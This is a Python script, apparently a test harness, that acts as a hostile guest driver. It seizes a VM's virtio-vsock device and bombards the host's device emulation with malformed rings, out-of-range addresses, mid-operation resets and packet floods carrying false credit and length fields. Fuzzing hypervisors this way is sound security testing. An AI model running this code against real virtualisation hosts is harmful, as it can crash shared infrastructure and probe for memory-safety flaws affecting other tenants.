"""A driver that attacks: it takes the vsock device from the guest's kernel and feeds it lies.

It runs as root in a guest, by itself, with the standard library alone: whoever has broken into a
guest's kernel could do the same. The device is found by its PCI id (1af4:1053), its registers are
mapped through sysfs, and its rings lie in pages of this process, whose physical addresses come from
/proc/self/pagemap (virtio 1.2, sections 2.7, 4.1 and 5.10). What it does is the same in every run.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
import time
from collections.abc import Callable, Sequence

PAGE = 4096
PAGES = 64
QUEUES = 3
SIZE = 128
ROUNDS = 40
FLOOD = 4000
# Source and destination CID, source and destination port, length, type, operation, flags, credit twice.
HEADER = struct.Struct("<QQIIIHHIII")
TOP = (1 << 64) - 1
ADDRESSES = (0, 1, 0xFFF, 0xA0000, 0xFEE00000, (1 << 32) - 1, 1 << 40, 1 << 63, TOP, TOP - 4095)
LENGTHS = (0, 1, 43, 44, 45, 4096, 65535, 1 << 20, (1 << 31) - 1, (1 << 32) - 1)


class Chance:
    """Numbers that look random and are the same each time (xorshift64)."""

    def __init__(self, seed: int) -> None:
        self.state = seed * 0x9E3779B97F4A7C15 % (1 << 64) or 1

    def below(self, bound: int) -> int:
        """A number from 0 to `bound`, which is left out."""
        x = self.state
        x ^= x << 13 & (1 << 64) - 1
        x ^= x >> 7
        x ^= x << 17 & (1 << 64) - 1
        self.state = x
        return x % bound

    def of(self, choices: Sequence[int]) -> int:
        """One of them."""
        return choices[self.below(len(choices))]

    def octets(self, count: int) -> bytes:
        """As many bytes."""
        return b"".join(struct.pack("<Q", self.below(1 << 64)) for _ in range(-(-count // 8)))[:count]


class Registers:
    """The device's registers, as its capabilities in configuration space say where they are."""

    def __init__(self, path: str) -> None:
        self.bars: dict[int, mmap.mmap] = {}
        self.found: dict[int, tuple[int, int]] = {}
        with open(path + "/config", "r+b", buffering=0) as file:
            config = file.read(256)
            file.seek(4)
            file.write(struct.pack("<H", struct.unpack_from("<H", config, 4)[0] | 6))  # memory, bus master
        at = config[0x34]
        while at:
            if config[at] == 9:
                kind, bar = config[at + 3], config[at + 4]
                offset = struct.unpack_from("<I", config, at + 8)[0]
                self.found.setdefault(kind, (bar, offset))
                if kind == 2:
                    self.multiplier = struct.unpack_from("<I", config, at + 16)[0]
                if kind < 5 and bar not in self.bars:
                    fd = os.open(f"{path}/resource{bar}", os.O_RDWR)
                    self.bars[bar] = mmap.mmap(fd, os.fstat(fd).st_size)
            at = config[at + 1]

    def cell(self, kind: int, offset: int, size: int) -> ctypes.c_uint8 | ctypes.c_uint16 | ctypes.c_uint32:
        """One register, which is read and written as a whole."""
        bar, start = self.found[kind]
        if size == 1:
            return ctypes.c_uint8.from_buffer(self.bars[bar], start + offset)
        if size == 2:
            return ctypes.c_uint16.from_buffer(self.bars[bar], start + offset)
        return ctypes.c_uint32.from_buffer(self.bars[bar], start + offset)

    def get(self, offset: int, size: int) -> int:
        """Read a register of the common configuration."""
        return self.cell(1, offset, size).value

    def set(self, offset: int, size: int, value: int) -> None:
        """Write one."""
        self.cell(1, offset, size).value = value

    def set64(self, offset: int, value: int) -> None:
        """Write one of 64 bits."""
        self.set(offset, 4, value & 0xFFFFFFFF)
        self.set(offset + 4, 4, value >> 32)

    def notify(self, queue: int) -> None:
        """Say that there is something in a queue."""
        self.set(22, 2, queue)
        self.cell(2, self.get(30, 2) * self.multiplier, 2).value = queue


class Memory:
    """Pages that stay where they are, and their physical addresses."""

    def __init__(self) -> None:
        self.map = mmap.mmap(-1, PAGES * PAGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        self.map[:] = b"\1" * len(self.map)
        libc = ctypes.CDLL(None, use_errno=True)
        address = ctypes.addressof(ctypes.c_char.from_buffer(self.map))
        if libc.mlock(ctypes.c_void_p(address), ctypes.c_size_t(len(self.map))):
            raise OSError(ctypes.get_errno(), "mlock")
        with open("/proc/self/pagemap", "rb", buffering=0) as file:
            file.seek(address // PAGE * 8)
            words = struct.unpack(f"<{PAGES}Q", file.read(8 * PAGES))
        self.physical = [(word & (1 << 55) - 1) * PAGE for word in words]
        assert all(self.physical), "the kernel tells no addresses"

    def write(self, page: int, offset: int, data: bytes) -> None:
        """Put bytes into a page."""
        self.map[page * PAGE + offset : page * PAGE + offset + len(data)] = data

    def u16(self, page: int, offset: int) -> int:
        """A number in a page."""
        found: int = struct.unpack_from("<H", self.map, page * PAGE + offset)[0]
        return found


def ring(queue: int) -> tuple[int, int, int]:
    """Pages of a queue's descriptors, its available and its used ring."""
    return 3 * queue, 3 * queue + 1, 3 * queue + 2


def start(
    registers: Registers,
    memory: Memory,
    addresses: Callable[[int], list[int]] | None = None,
    size: int = SIZE,
) -> None:
    """Reset the device and bring it up with rings where they belong, or where `addresses` says."""
    registers.set(20, 1, 0)
    while registers.get(20, 1):
        pass
    for page in range(3 * QUEUES):
        memory.write(page, 0, bytes(PAGE))
    registers.set(20, 1, 3)
    registers.set(8, 4, 0)
    registers.set(12, 4, 0)
    registers.set(8, 4, 1)
    registers.set(12, 4, 1)  # VERSION_1
    registers.set(20, 1, 11)
    for queue in range(QUEUES):
        registers.set(22, 2, queue)
        registers.set(24, 2, size)
        pages = addresses(queue) if addresses else [memory.physical[page] for page in ring(queue)]
        for offset, address in zip((32, 40, 48), pages, strict=True):
            registers.set64(offset, address)
        registers.set(28, 2, 1)
    registers.set(20, 1, 15)


def descriptor(
    memory: Memory, queue: int, index: int, address: int, length: int, flags: int, following: int
) -> None:
    """Write one descriptor."""
    address &= TOP
    memory.write(ring(queue)[0], 16 * index, struct.pack("<QIHH", address, length, flags, following))


def offer(memory: Memory, queue: int, entries: Sequence[int], idx: int) -> None:
    """Put heads into the available ring, and its index where it is wanted."""
    for at, head in enumerate(entries):
        memory.write(ring(queue)[1], 4 + 2 * (at % SIZE), struct.pack("<H", head))
    memory.write(ring(queue)[1], 2, struct.pack("<H", idx % 65536))


def garbage(registers: Registers, memory: Memory, chance: Chance) -> None:
    """Random bytes for descriptors and available rings."""
    start(registers, memory)
    for queue in range(QUEUES):
        memory.write(ring(queue)[0], 0, chance.octets(16 * SIZE))
        memory.write(ring(queue)[1], 0, chance.octets(6 + 2 * SIZE))
    for _ in range(8):
        registers.notify(chance.below(QUEUES))


def edges(registers: Registers, memory: Memory, chance: Chance) -> None:
    """Descriptors at the edges of memory, that loop, overlap the rings, lie about their length."""
    start(registers, memory)
    for queue in range(QUEUES):
        for index in range(SIZE):
            address = chance.of((*ADDRESSES, *memory.physical[:12]))
            descriptor(
                memory,
                queue,
                index,
                address + chance.below(3),
                chance.of(LENGTHS),
                chance.below(8),
                chance.of((index, (index + 1) % SIZE, SIZE, 65535)),
            )
        offer(
            memory,
            queue,
            [chance.of((0, 1, SIZE - 1, SIZE, 65535)) for _ in range(SIZE)],
            chance.of((1, SIZE, SIZE + 1, 32768, 65535)),
        )
        registers.notify(queue)


def places(registers: Registers, memory: Memory, chance: Chance) -> None:
    """Rings that are not in memory, on top of each other, or not aligned."""
    choices = (*ADDRESSES, memory.physical[0] + 1)
    start(registers, memory, lambda _: [chance.of(choices) for _ in range(3)])
    for queue in range(QUEUES):
        registers.notify(queue)
    same = memory.physical[0]
    start(registers, memory, lambda _: [same, same, same], size=chance.of((1, 2, 64, SIZE)))
    memory.write(0, 0, chance.octets(PAGE))
    for queue in range(QUEUES):
        registers.notify(queue)


def resets(registers: Registers, memory: Memory, chance: Chance) -> None:
    """The device is taken away while it works."""
    for _ in range(4):
        start(registers, memory)
        offer(memory, 1, range(SIZE), SIZE)
        registers.notify(1)
        registers.set(20, 1, chance.of((0, 1, 3, 128)))


def flood(registers: Registers, memory: Memory, chance: Chance) -> int:
    """Well-formed packets of every operation from every port, with credit and lengths that are lies."""
    start(registers, memory)
    data = 3 * QUEUES
    for index in range(SIZE):
        descriptor(memory, 0, index, memory.physical[data + 20 + index % 16], 2048, 2, 0)
        descriptor(memory, 1, index, memory.physical[data + index % 16], 44 + 64, 0, 0)
    offer(memory, 0, range(SIZE), SIZE)
    registers.notify(0)
    entries, sent, stuck = list(range(SIZE)), 0, 0
    while sent < FLOOD and stuck < 2000:
        for page in range(16):
            head = HEADER.pack(
                chance.of((3, 2, 1, 0, chance.below(1 << 32))),
                chance.of((2, 2, 2, 0, 1)),
                chance.of((1024, chance.below(1 << 32))),
                chance.of((1024, 1024, 0, chance.below(1 << 32))),
                chance.of((64, 0, 65, (1 << 32) - 1)),
                chance.of((1, 1, 1, 0, 2)),
                chance.below(10),
                chance.below(5),
                chance.of((0, 1, 4096, (1 << 32) - 1)),
                chance.of((0, 1, (1 << 32) - 1)),
            )
            memory.write(data + page, 0, head + chance.octets(64))
        sent += SIZE
        offer(memory, 1, entries, sent)
        registers.notify(1)
        deadline = time.monotonic() + 10
        while memory.u16(ring(1)[2], 2) != sent % 65536 and time.monotonic() < deadline:
            stuck += 1
        # Room for the answers again.
        offer(memory, 0, entries, memory.u16(ring(0)[2], 2) + SIZE)
        registers.notify(0)
    return memory.u16(ring(1)[2], 2)


ATTACKS = (garbage, edges, places, resets)


def device(root: str) -> str:
    """The name of the vsock device on the PCI bus."""
    for name in sorted(os.listdir(root)):
        with open(f"{root}{name}/device") as file:
            if file.read() == "0x1053\n":
                return name
    raise SystemExit("hostile: there is no vsock device")


def main() -> None:
    """Attack, and say so on standard output."""
    root = "/sys/bus/pci/devices/"
    name = device(root)
    with open("/sys/bus/pci/drivers/virtio-pci/unbind", "w") as file:
        file.write(name)
    print(f"hostile: has {name}", flush=True)
    registers, memory = Registers(root + name), Memory()
    consumed = flood(registers, memory, Chance(1))
    print(f"hostile: flood consumed {consumed}", flush=True)
    for number in range(ROUNDS):
        attack = ATTACKS[number % len(ATTACKS)]
        attack(registers, memory, Chance(number + 2))
        print(f"hostile: round {number} {attack.__name__}", flush=True)
    consumed = flood(registers, memory, Chance(1))
    print(f"hostile: flood consumed {consumed}", flush=True)
    registers.set(20, 1, 0)
    print("hostile: done", flush=True)


if __name__ == "__main__":
    main()
